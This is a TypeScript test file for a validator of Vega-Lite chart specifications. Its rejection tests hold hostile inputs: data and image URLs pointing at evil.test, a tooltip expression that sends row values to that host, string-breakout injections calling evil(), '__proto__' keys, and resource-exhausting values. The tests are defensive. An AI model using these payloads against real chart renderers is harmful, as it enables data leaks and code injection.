import { describe, expect, it } from 'vitest';
import { chartSpecProblems, formatSpecProblems, parseChartSpec } from './chart-spec.ts';

const x = { field: 'revenue', type: 'quantitative' };
const y = { field: 'region', type: 'nominal' };
const bars = { mark: 'bar', encoding: { x, y } };
const columns = ['region', 'revenue', 'day'];

function problemsOf(spec: unknown): string {
  return formatSpecProblems('vegaSpec', chartSpecProblems(spec, columns));
}

/** Bars with more of a mark, of the axis, or of transforms. */
const marked = (mark: object) => ({ ...bars, mark: { type: 'bar', ...mark } });
const withAxis = (axis: object) => ({ ...bars, encoding: { x: { ...x, axis }, y } });
const withColor = (color: object) => ({ ...bars, encoding: { x, y, color } });
const transformed = (...transform: readonly object[]) => ({ ...bars, transform });

describe('a chart specification', () => {
  it.each<[name: string, spec: unknown]>([
    ['bars', bars],
    [
      'lines over time with everything that models like to add',
      {
        $schema: 'https://vega.github.io/schema/vega-lite/v5.20.1.json',
        title: { text: 'Revenue', subtitle: ['by region', 'and day'], anchor: 'start', fontSize: 16 },
        description: 'A chart',
        width: 'container',
        height: 300,
        autosize: { type: 'fit', contains: 'padding' },
        padding: 5,
        background: '#ffffff',
        mark: {
          type: 'line',
          point: { filled: true, size: 60 },
          strokeWidth: 2.5,
          interpolate: 'monotone',
          tooltip: true,
        },
        encoding: {
          x: {
            field: 'day',
            type: 'temporal',
            timeUnit: 'yearmonth',
            title: null,
            axis: { format: '%b %Y', labelAngle: -45, tickCount: 6, grid: false },
          },
          y: {
            aggregate: 'sum',
            field: 'revenue',
            type: 'quantitative',
            stack: 'zero',
            scale: { zero: true, nice: true },
            axis: { format: '$,.2~s', title: 'Revenue (EUR)', labelExpr: "datum.label + ' €'" },
          },
          color: {
            ...y,
            scale: { domain: ['EU', 'UK "(old)"'], range: ['#4c78a8', 'rgb(1, 2, 3)'] },
            legend: { orient: 'bottom', columns: 3, title: 'Region' },
            sort: '-y',
          },
          strokeDash: { condition: { test: "datum.region === 'EU'", value: [4, 2] }, value: [1, 0] },
          tooltip: [
            { field: 'day', type: 'temporal', title: 'Day', format: '%d.%m.%Y' },
            { aggregate: 'sum', field: 'revenue', title: 'Revenue', format: ',.2f' },
          ],
          order: { field: 'day', sort: 'descending' },
        },
        config: {
          view: { stroke: 'transparent' },
          axis: { labelFontSize: 12, titleColor: '#333' },
          range: { category: { scheme: 'tableau10' } },
          bar: { cornerRadius: 3 },
        },
        resolve: { scale: { y: 'independent' } },
      },
    ],
    [
      'transforms and what they make',
      {
        transform: [
          { calculate: 'datum.revenue === null ? null : toNumber(datum.revenue)', as: 'amount' },
          { timeUnit: { unit: 'yearquarter', utc: true }, field: 'day', as: 'quarter' },
          {
            filter: {
              and: [
                { field: 'amount', gt: 0 },
                { not: { field: 'region', oneOf: ['x', null] } },
                'isValid(datum.day)',
              ],
            },
          },
          {
            aggregate: [
              { op: 'sum', field: 'amount', as: 'total' },
              { op: 'count', as: 'orders' },
            ],
            groupby: ['region', 'quarter'],
          },
          {
            window: [
              { op: 'rank', as: 'place' },
              { op: 'lag', field: 'total', param: 1, as: 'before' },
            ],
            sort: [{ field: 'total', order: 'descending' }],
            frame: [null, 0],
            groupby: ['quarter'],
          },
          { joinaggregate: [{ op: 'sum', field: 'total', as: 'all' }] },
          { fold: ['total', 'orders'], as: ['measure', 'amount'] },
          { stack: 'amount', groupby: ['quarter'], as: ['from', 'to'], offset: 'normalize' },
          { bin: { maxbins: 20 }, field: 'amount', as: 'bin' },
        ],
        layer: [
          {
            mark: 'area',
            encoding: {
              x: { field: 'from' },
              x2: { field: 'to' },
              y: { field: 'quarter' },
              color: { field: 'measure' },
              detail: [{ field: 'place' }, { field: 'bin_end' }],
            },
          },
          {
            mark: { type: 'rule', strokeDash: [4, 4] },
            encoding: { x: { datum: 0.5 }, color: { value: 'firebrick' } },
          },
        ],
      },
    ],
    [
      'facets, repeats and concatenations',
      {
        hconcat: [
          { facet: { field: 'region', columns: 3, header: { title: null } }, spec: bars },
          {
            repeat: { column: ['revenue'], row: ['revenue'] },
            spec: { mark: 'boxplot', encoding: { y: { field: { repeat: 'column' }, type: 'quantitative' } } },
          },
        ],
      },
    ],
    [
      'density, regression and quantiles',
      {
        layer: [
          {
            mark: 'area',
            transform: [{ density: 'revenue', groupby: ['region'], steps: 100 }],
            encoding: { x: { field: 'value' }, y: { field: 'density' } },
          },
          {
            mark: 'line',
            transform: [{ regression: 'revenue', on: 'day' }],
            encoding: { x: { field: 'day' }, y: x },
          },
        ],
      },
    ],
    [
      'gaps filled',
      {
        mark: 'line',
        encoding: { x: { field: 'day' }, y: { ...x, impute: { value: 0, keyvals: [1, 2, 3] } }, color: y },
      },
    ],
    [
      'a gradient',
      {
        mark: {
          type: 'area',
          color: {
            gradient: 'linear',
            x1: 1,
            y1: 1,
            x2: 1,
            y2: 0,
            stops: [
              { offset: 0, color: 'white' },
              { offset: 1, color: 'darkgreen' },
            ],
          },
        },
        encoding: { x: { field: 'day' }, y: x },
      },
    ],
  ])('a chart specification is fit with %s', (_, spec) => {
    expect(problemsOf(spec)).toBe('');
  });

  it.each<[name: string, spec: unknown, problem: RegExp]>([
    [
      'a column that is not there',
      { ...bars, encoding: { x: { field: 'cost' } } },
      /^vegaSpec\.encoding\.x\.field: There is no column "cost"\. There are region, revenue, day\.$/,
    ],
    ['no mark', { encoding: bars.encoding }, /^vegaSpec: It names no mark\.$/],
    ['no column', { mark: 'bar' }, /^vegaSpec: It encodes no column\.$/],
    [
      'another version',
      { ...bars, $schema: 'https://vega.github.io/schema/vega-lite/v4.json' },
      /\$schema: It must be Vega-Lite v5/,
    ],
    ['a schema from elsewhere', { ...bars, $schema: 'https://evil.test/vega-lite/v5.json' }, /\$schema: /],
    ['no object', [bars], /^vegaSpec: Expected an object\.$/],
    [
      'a property that nobody knows',
      marked({ colour: 'red' }),
      /^vegaSpec\.mark\.colour: There is no such property here\. There are .*color/,
    ],
    [
      'data from an address',
      { ...bars, data: { url: 'https://evil.test' } },
      /^vegaSpec\.data: A chart's data is the rows/,
    ],
    ['data in a part', { layer: [{ ...bars, data: { values: [] } }] }, /layer\.0\.data: /],
    [
      'other data',
      transformed({ lookup: 'region', from: { data: { url: '/x' }, key: 'k' } }),
      /transform\.0: A chart reads no other data/,
    ],
    [
      'a picture',
      { layer: [bars, { mark: { type: 'image', url: 'https://evil.test/x.png' } }] },
      /mark\.type: Expected one of.*mark\.url: A chart loads nothing/,
    ],
    [
      'a link',
      { ...bars, encoding: { x, y, href: { value: 'https://evil.test' } } },
      /encoding\.href: A chart loads nothing/,
    ],
    ['settings for its reader', { ...bars, usermeta: { embedOptions: {} } }, /usermeta: /],
    [
      'a cursor',
      marked({ cursor: 'url(https://evil.test),auto' }),
      /mark\.cursor: The page that shows the chart decides it/,
    ],
    ['a font', withAxis({ labelFont: 'Evil' }), /labelFont: The page/],
    [
      'controls',
      { ...bars, params: [{ name: 'a', bind: { element: 'body', input: 'range' } }] },
      /^vegaSpec\.params: A chart has no controls/,
    ],
    [
      'a tooltip that is computed',
      marked({ tooltip: { expr: "{'image': 'https://evil.test/?' + datum.region}" } }),
      /mark\.tooltip\.expr: Write a plain value/,
    ],
    [
      'a tooltip of whole rows',
      marked({ tooltip: { content: 'data' } }),
      /mark\.tooltip\.content: Expected one of encoding/,
    ],
    [
      'a tooltip of one value, which may be an object',
      { ...bars, encoding: { x, y, tooltip: { field: 'region' } } },
      /tooltip: Write it as a list/,
    ],
    [
      'a column that tooltips show as a picture',
      { ...bars, encoding: { x, tooltip: [{ field: 'image' }] } },
      /tooltip\.0\.field: Tooltips show what is called "image" as a picture/,
    ],
    [
      'a title that tooltips show as a picture',
      { ...bars, encoding: { x, tooltip: [{ field: 'region', title: 'image' }] } },
      /title: Expected another title/,
    ],
    ['a paint that loads', marked({ fill: 'url(https://evil.test/#a)' }), /mark\.fill: Expected a colour/],
    ['colours as the data spells them', withColor({ ...y, scale: null }), /color\.scale: Expected an object/],
    ['a shape as a path', marked({ shape: 'M0,0L1,1' }), /shape: Expected one of circle/],
    [
      'a title that ends the text it is written into',
      { ...bars, encoding: { x: { ...x, title: '\\"+evil()+\\"' }, y } },
      /title: Expected text without/,
    ],
    [
      'a format that ends the text it is written into',
      withAxis({ format: '")+evil()+("' }),
      /format: Expected a format/,
    ],
    [
      'a field that ends the text it is written into',
      { ...bars, encoding: { x: { field: '"]+evil()+["' } } },
      /field: Expected the name of a column/,
    ],
    [
      'a field that every object has',
      { ...bars, encoding: { x: { field: '__proto__' } } },
      /field: Expected another name/,
    ],
    [
      'a value that is written as it is',
      { ...bars, encoding: { x: { field: 'day', timeUnit: 'seconds' }, y: { datum: 'evil()' } } },
      /"encoding\.y\.datum" may hold no brackets/,
    ],
    [
      'a compared value that is written as it is',
      transformed({ filter: { field: 'day', timeUnit: 'seconds', equal: 'evil()' } }),
      /transform\.0\.filter: Expected dates/,
    ],
    [
      'a format as wide as the memory',
      withAxis({ format: '0>999999999d' }),
      /format: Expected a width of at most 40/,
    ],
    [
      'a format function of somebody else',
      withAxis({ formatType: 'evil' }),
      /formatType: Expected one of number, time, utc/,
    ],
    [
      'ticks without end',
      withAxis({ tickCount: { interval: 'millisecond', step: 1 } }),
      /tickCount: Expected a number from 0 to 100/,
    ],
    [
      'bins without end',
      { ...bars, encoding: { x: { ...x, bin: { step: 1e-9 } }, y } },
      /bin\.step: There is no such property/,
    ],
    [
      'many bins',
      { ...bars, encoding: { x: { ...x, bin: { maxbins: 1e9 } }, y } },
      /maxbins: Expected a whole number from 2 to 200/,
    ],
    [
      'a scale of bins',
      { ...bars, encoding: { x: { ...x, scale: { bins: { step: 1e-9 } } }, y } },
      /bins: There is no such property/,
    ],
    [
      'a base of a logarithm with ticks without end',
      { ...bars, encoding: { x: { ...x, scale: { type: 'log', base: 1.000001 } }, y } },
      /base: Expected a whole number from 2 to 10/,
    ],
    [
      'gaps filled by a sequence',
      transformed({ impute: 'revenue', key: 'day', keyvals: { start: 0, stop: 1e8 } }),
      /keyvals: Expected a list/,
    ],
    [
      'quantiles without end',
      transformed({ quantile: 'revenue', step: 1e-9 }),
      /step: Expected a number from 0.01 to 1/,
    ],
    [
      'a density without end',
      transformed({ density: 'revenue', steps: 1e9 }),
      /steps: Expected a whole number/,
    ],
    [
      'a sequence',
      transformed({ calculate: 'sequence(1e8)', as: 'a' }),
      /transform\.0: There is no function "sequence"/,
    ],
    [
      'rows that multiply',
      transformed(...Array.from({ length: 20 }, () => ({ fold: ['region', 'revenue', 'day'] }))),
      /^vegaSpec: Its transforms multiply the rows/,
    ],
    [
      'texts that double',
      transformed(...Array.from({ length: 20 }, () => ({ calculate: 'datum.a + datum.a', as: 'a' }))),
      /transform\.10: It adds up too many texts/,
    ],
    [
      'too many transforms',
      transformed(...Array.from({ length: 21 }, () => ({ sample: 10 }))),
      /transform: Expected 0 to 20 items/,
    ],
    ['too many layers', { layer: Array.from({ length: 11 }, () => bars) }, /layer: Expected 0 to 10 items/],
    [
      'too many charts',
      { repeat: { row: columns, column: columns }, spec: { layer: Array.from({ length: 7 }, () => bars) } },
      /^vegaSpec: It has more than 60 charts/,
    ],
    ['a picture too wide', { ...bars, width: 1e6 }, /width: Expected text or a number from 1 to 4000/],
    ['numbers that are none', { ...bars, width: Number.NaN }, /width: Expected/],
  ])('a chart specification is not with %s', (_, spec, problem) => {
    expect(problemsOf(spec)).toMatch(problem);
  });

  it('a chart specification is not when it is too deep or too large, whatever it holds', () => {
    const nested = (depth: number): object => (depth === 0 ? bars : { layer: [nested(depth - 1)] });
    expect(problemsOf(nested(5_000))).toMatch(/^vegaSpec: A chart deeper than 32 levels is too large/);
    const sort = Array.from({ length: 500 }, (_, index) => index);
    const wide = { ...bars, encoding: { x: { ...x, sort }, y: { ...y, sort } } };
    expect(problemsOf({ layer: Array.from({ length: 10 }, () => wide) })).toMatch(
      /of more than 5000 values is too large/,
    );
  });

  it('reports at most ten problems of the specification', () => {
    const many = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`a${index}`, 1]));
    expect(chartSpecProblems({ ...bars, ...many })).toHaveLength(10);
  });
});

describe('a chart specification as text', () => {
  it('a chart specification as text loses the data that it holds', () => {
    const text = JSON.stringify({
      ...bars,
      data: { name: 'table', values: [{ region: 'X' }] },
      datasets: { table: [] },
    });
    expect(parseChartSpec(text, columns)).toEqual({ spec: bars });
  });

  it.each(['', '{mark: bar', '[]', 'null', '"bar"', '[['.repeat(20_000)])(
    'a chart specification as text is refused when it is no object: %.20s',
    (text) => {
      expect(parseChartSpec(text)).toEqual({
        problems: [{ path: [], message: expect.stringContaining('as JSON text') }],
      });
    },
  );

  it('a chart specification as text may not replace what every object has', () => {
    const text =
      '{"__proto__":{"mark":"bar"},"constructor":1,"mark":"bar","encoding":{"x":{"field":"region"}}}';
    expect(parseChartSpec(text)).toMatchObject({
      problems: [{ path: ['__proto__'] }, { path: ['constructor'] }],
    });
  });
});
